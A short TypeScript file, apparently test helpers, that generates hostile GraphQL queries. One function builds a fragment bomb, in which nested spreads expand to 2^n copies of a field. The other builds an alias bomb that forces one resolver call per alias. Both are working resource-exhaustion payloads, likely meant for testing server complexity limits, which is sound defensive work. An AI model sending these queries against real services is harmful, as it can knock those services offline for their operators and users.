// Hostile GraphQL documents, small to send and huge to expand.

/** `{ ...F<n> }` where F<k> spreads F<k-1> twice: 2^n copies of `leaf` once expanded, in about 40 bytes a level. */
export function fragmentBomb(levels: number, leaf = 'categories { id }', on = 'Query'): string {
  let fragments = `fragment F0 on ${on} { ${leaf} }`;
  for (let i = 1; i <= levels; i++) fragments += ` fragment F${i} on ${on} { ...F${i - 1} ...F${i - 1} }`;
  return `{ ...F${levels} } ${fragments}`;
}

/** `{ a0: categories { id } a1: categories { id } … }`: one resolver call per alias. */
export function aliasBomb(count: number, field = 'categories { id }'): string {
  return `{ ${Array.from({ length: count }, (_, i) => `a${i}: ${field}`).join(' ')} }`;
}
